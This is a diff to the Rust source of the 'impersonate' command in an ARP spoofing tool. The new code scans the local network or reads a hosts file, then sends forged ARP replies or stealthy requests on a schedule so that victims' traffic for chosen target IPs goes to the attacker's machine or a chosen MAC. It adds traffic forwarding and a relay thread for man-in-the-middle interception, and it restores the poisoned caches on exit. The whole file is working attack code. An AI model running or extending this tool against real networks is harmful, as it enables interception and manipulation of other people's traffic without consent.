@@ -1,86 +1,330 @@
 use std::net::Ipv4Addr;
-use std::time::{Instant, Duration};
+use std::time::Duration;
 
+use arprender::arp;
+use arprender::arp::impersonate;
+use arprender::arp::{Host, MacFlag, Peer, TargetSet};
+use arprender::forwarding::ForwardingGuard;
+use arprender::scheduler::Schedule;
+use pnet::util::MacAddr;
 use tabled::settings::{Alignment, Settings};
 
-use crate::arp;
-use crate::utils::{is_timer_expired, random_ip_in_network, loop_attack};
+use super::forwarding::{prepare_forwarding, RelayThread};
+use super::output::cell;
+use super::schedule::print_report;
+use super::{warn_off_link, CommandResult};
+use crate::cli::ImpersonateArgs;
 
-pub fn impersonate(interface: String, target: Ipv4Addr, stealthy: bool, period: u16) {
-    match arp::nic::get_interface_by_name(&interface) {
-        Ok(interface) => {
-            let period = Duration::from_secs(period.into());
+/// What happened to a single target over the course of the attack.
+struct TargetStats {
+    target: Ipv4Addr,
+    /// The target's real MAC address, which is needed to restore the poisoned caches.
+    real_mac: Option<MacAddr>,
+    /// The number of forged frames sent on the target's behalf.
+    frames: u64,
+}
 
-            if stealthy {
-                let Some(net) = interface.network() else {
-                    eprintln!("Interface not connected to a network.");
-                    std::process::exit(1);
-                };
+pub fn impersonate(args: ImpersonateArgs) -> CommandResult {
+    let ImpersonateArgs {
+        targets,
+        interface,
+        stealthy,
+        as_mac,
+        period,
+        jitter,
+        count,
+        duration,
+        scan_timeout,
+        hosts_file,
+        victims,
+        exclude,
+        forward,
+        relay,
+    } = args;
 
-                // Generate a random IP in the range of the network to make the ARP request look legitimate.
-                let attack = || {
-                    let decoy_ip = loop {
-                        let random_ip = random_ip_in_network(&net);
+    let interface = arp::nic::get_interface_by_name(&interface)?;
+    let targets = parse_targets(&interface, &targets)?;
+    let schedule = Schedule {
+        interval: Duration::from_secs(period.into()),
+        jitter: Duration::from_millis(jitter),
+        count,
+        duration: duration.map(Duration::from_secs),
+    };
 
-                        // Ensure that the random IP is different from the target in order to prevent any interference from a potential ARP response from the target.
-                        if random_ip.ne(&target) {
-                            break random_ip;
-                        }
-                    };
+    // Without an explicit list, every host found by the scan is a victim
+    let victims = if victims.is_empty() {
+        None
+    } else {
+        Some(TargetSet::parse(&victims)?)
+    };
+    let exclude = TargetSet::parse(&exclude)?;
 
-                    arp::send_arp_request(&interface, decoy_ip, None, Some(target)).unwrap();
-                };
+    if as_mac.is_some_and(|mac| MacFlag::for_mac(mac).contains(&MacFlag::Multicast)) {
+        return Err("The targets cannot be mapped to a multicast MAC address.".into());
+    }
+
+    let mut session = arp::ArpSession::new(&interface)?;
+
+    // Traffic steered to another MAC address never reaches this host, so there is nothing to forward
+    let mut forwarding = match as_mac {
+        Some(as_mac) => {
+            println!("Redirecting traffic for {} target(s) to {}.", targets.len(), as_mac);
+            ForwardingGuard::default()
+        }
+        None => prepare_forwarding(interface.name(), forward, relay)?,
+    };
+
+    // Stop attacking, rather than exiting, on Ctrl-C or SIGTERM so that the poisoned caches can be restored
+    let cancel = session.cancel_handle();
+    let handler_cancel = cancel.clone();
+    ctrlc::set_handler(move || handler_cancel.cancel())?;
+
+    if stealthy {
+        let mut stats = resolve_targets(&mut session, &targets, &[])?;
+        let relay = start_relay(&interface, relay, &stats)?;
 
-                loop_attack!(attack, period);
-            } else {
+        println!("Launching stealthy ARP impersonation attack for {} target(s)...", stats.len());
+        let report = schedule.run(&cancel, |_| {
+            for target in &mut stats {
+                session.impersonate_stealthy(target.target, as_mac)?;
+                target.frames += 1;
+            }
+
+            Ok::<_, arp::nic::InterfaceError>(())
+        });
+
+        restore(&mut session, &stats, &[])?;
+
+        if let Some(relay) = relay {
+            relay.stop()?;
+        }
+
+        print_stats(&stats);
+        print_report(&report?);
+    } else {
+        let hosts = match hosts_file {
+            Some(path) => {
+                println!("Loading hosts from {}...", path.display());
+                let mut hosts = Host::read_all(&path, interface.name())?;
+                let off_link = impersonate::retain_on_link(&interface, &mut hosts)?;
+                warn_off_link(&interface, off_link.len() as u64, "host");
+                hosts
+            }
+            None => {
                 // Perform an ARP scan to detect the available hosts on the network.
-                println!("Launching ARP scan using timeout {} seconds...", 10);
-                match arp::arp_scan(&interface, Duration::from_secs(10)) {
-                    Ok(hosts) => {
-                        // Construct output table
-                        let table_config = Settings::default().with(Alignment::center());
-                        let mut interfaces_table = tabled::builder::Builder::new();
-                        interfaces_table.push_record(["IP Address", "MAC Address"]);
-
-                        for host in &hosts {
-                            interfaces_table
-                                .push_record([host.0.to_string(), host.1.to_string()]);
-                        }
-
-                        // Print output
-                        println!("Identified hosts:");
-                        println!(
-                            "{}",
-                            interfaces_table.build().with(table_config).to_string()
-                        );
-
-                        println!("Launching ARP impersonation attack...");
-                        let attack = move || {
-                            for host in &hosts {
-                                arp::send_arp_reply(
-                                    &interface,
-                                    host.1,
-                                    host.0,
-                                    None,
-                                    Some(target),
-                                )
-                                .unwrap();
-                            }
-                        };
-
-                        loop_attack!(attack, Duration::from_secs(0));
-                    }
-                    Err(err) => {
-                        eprintln!("{}", err.to_string());
-                        std::process::exit(1);
-                    }
-                }
+                println!("Launching ARP scan using timeout {} seconds...", scan_timeout);
+                let targets = arp::TargetSet::for_interface(&interface)?;
+                let options = arp::ScanOptions {
+                    timeout: Duration::from_secs(scan_timeout.into()),
+                    ..Default::default()
+                };
+                session.scan(&targets, &options)?
             }
+        };
+
+        // Construct output table
+        let table_config = Settings::default().with(Alignment::center());
+        let mut interfaces_table = tabled::builder::Builder::new();
+        interfaces_table.push_record(["IP Address", "MAC Address"]);
+
+        for host in &hosts {
+            interfaces_table.push_record([host.ip.to_string(), host.mac.to_string()]);
+        }
+
+        // Print output
+        println!("Identified hosts:");
+        println!(
+            "{}",
+            interfaces_table.build().with(table_config)
+        );
+
+        let mut stats = resolve_targets(&mut session, &targets, &hosts)?;
+
+        let (selected, mut unknown) =
+            impersonate::select_victims(&hosts, victims.as_ref(), &exclude);
+        if let Some(network) = interface.network() {
+            let off_link = unknown.retain_network(network);
+            warn_off_link(&interface, off_link.len(), "victim");
+        }
+
+        let victims = resolve_unknown(
+            &mut session,
+            selected,
+            &unknown,
+            "victim(s) which did not answer the scan",
+        )?;
+        let unresolved = impersonate::split_known(&unknown, &victims).1;
+        if !unresolved.is_empty() {
+            eprintln!(
+                "Warning: {} victim(s) could not be resolved and will be left alone.",
+                unresolved.len()
+            );
         }
-        Err(err) => {
-            println!("{}", err.to_string());
-            std::process::exit(1);
+
+        // The capture device is never sent forged replies, so it does not count as a victim
+        if victims.iter().all(|victim| Some(victim.mac) == as_mac) {
+            return Err("There are no victims to send forged replies to!".into());
+        }
+
+        let relay = start_relay(&interface, relay, &stats)?;
+
+        println!(
+            "Launching ARP impersonation attack for {} target(s) against {} victim(s)...",
+            stats.len(),
+            victims.len()
+        );
+        let report = schedule.run(&cancel, |_| {
+            for target in &mut stats {
+                target.frames += session.impersonate_hosts(target.target, &victims, as_mac)?;
+            }
+
+            Ok::<_, arp::nic::InterfaceError>(())
+        });
+
+        restore(&mut session, &stats, &victims)?;
+
+        if let Some(relay) = relay {
+            relay.stop()?;
         }
+
+        print_stats(&stats);
+        print_report(&report?);
+    }
+
+    forwarding.restore()?;
+
+    Ok(())
+}
+
+/// Parses the targets, leaving out the ones which cannot be impersonated on the interface's network.
+fn parse_targets(
+    interface: &arp::nic::NetworkInterface,
+    specs: &[String],
+) -> Result<TargetSet, Box<dyn std::error::Error>> {
+    let Some(network) = interface.network() else {
+        return Err("Interface not connected to a network.".into());
+    };
+
+    let mut targets = TargetSet::parse(specs)?;
+    targets.remove(network.ip());
+
+    let off_link = targets.retain_network(network);
+    warn_off_link(interface, off_link.len(), "target");
+
+    if targets.is_empty() {
+        return Err("There are no targets to impersonate!".into());
+    }
+
+    Ok(targets)
+}
+
+/// Looks up the real MAC addresses of the targets, which are needed to undo the attack. Targets which are not among
+/// the known hosts are resolved.
+fn resolve_targets(
+    session: &mut arp::ArpSession,
+    targets: &TargetSet,
+    hosts: &[Host],
+) -> Result<Vec<TargetStats>, Box<dyn std::error::Error>> {
+    let (known, unknown) = impersonate::split_known(targets, hosts);
+    let resolved = resolve_unknown(session, known, &unknown, "target(s)")?;
+
+    let unresolved = targets.len() - resolved.len() as u64;
+    if unresolved > 0 {
+        eprintln!(
+            "Warning: {} target(s) could not be resolved, so their poisoned ARP caches will not be restored on exit.",
+            unresolved
+        );
+    }
+
+    Ok(targets
+        .iter()
+        .map(|target| TargetStats {
+            target,
+            real_mac: resolved.iter().find(|host| host.ip == target).map(|host| host.mac),
+            frames: 0,
+        })
+        .collect())
+}
+
+/// Adds the addresses which are not among the known hosts yet, if they answer.
+fn resolve_unknown(
+    session: &mut arp::ArpSession,
+    mut known: Vec<Host>,
+    unknown: &TargetSet,
+    kind: &str,
+) -> Result<Vec<Host>, arp::nic::InterfaceError> {
+    if unknown.is_empty() || session.is_cancelled() {
+        return Ok(known);
+    }
+
+    println!("Resolving {} {}...", unknown.len(), kind);
+    known.extend(session.resolve_hosts(unknown)?);
+    known.sort_by_key(|host| host.ip);
+
+    Ok(known)
+}
+
+/// Maps every resolved target back to its real MAC address.
+fn restore(
+    session: &mut arp::ArpSession,
+    stats: &[TargetStats],
+    victims: &[Host],
+) -> CommandResult {
+    let real_targets = real_targets(stats);
+
+    if !real_targets.is_empty() {
+        println!("Restoring ARP caches...");
+        session.restore_hosts(&real_targets, victims)?;
+    }
+
+    Ok(())
+}
+
+fn real_targets(stats: &[TargetStats]) -> Vec<Peer> {
+    stats
+        .iter()
+        .filter_map(|stats| stats.real_mac.map(|mac| Peer { ip: stats.target, mac }))
+        .collect()
+}
+
+fn print_stats(stats: &[TargetStats]) {
+    // Construct output table
+    let table_config = Settings::default().with(Alignment::center());
+    let mut stats_table = tabled::builder::Builder::new();
+    stats_table.push_record(["Target", "Real MAC Address", "Forged Frames", "Restored"]);
+
+    for stats in stats {
+        stats_table.push_record([
+            stats.target.to_string(),
+            cell(stats.real_mac),
+            stats.frames.to_string(),
+            if stats.real_mac.is_some() { "Yes" } else { "No" }.to_string(),
+        ]);
+    }
+
+    // Print output
+    println!("Impersonated targets:");
+    println!("{}", stats_table.build().with(table_config));
+}
+
+/// Starts relaying the targets' traffic if requested, which requires their real MAC addresses.
+fn start_relay(
+    interface: &arp::nic::NetworkInterface,
+    relay: bool,
+    stats: &[TargetStats],
+) -> Result<Option<RelayThread>, Box<dyn std::error::Error>> {
+    if !relay {
+        return Ok(None);
+    }
+
+    let real_targets = real_targets(stats);
+    if real_targets.is_empty() {
+        return Err("Cannot relay traffic without the real MAC address of any target!".into());
+    }
+
+    for real_target in &real_targets {
+        println!("Relaying intercepted traffic to {}.", real_target);
     }
 
-}
\ No newline at end of file
+    Ok(Some(RelayThread::start(interface, &real_targets, None)?))
+}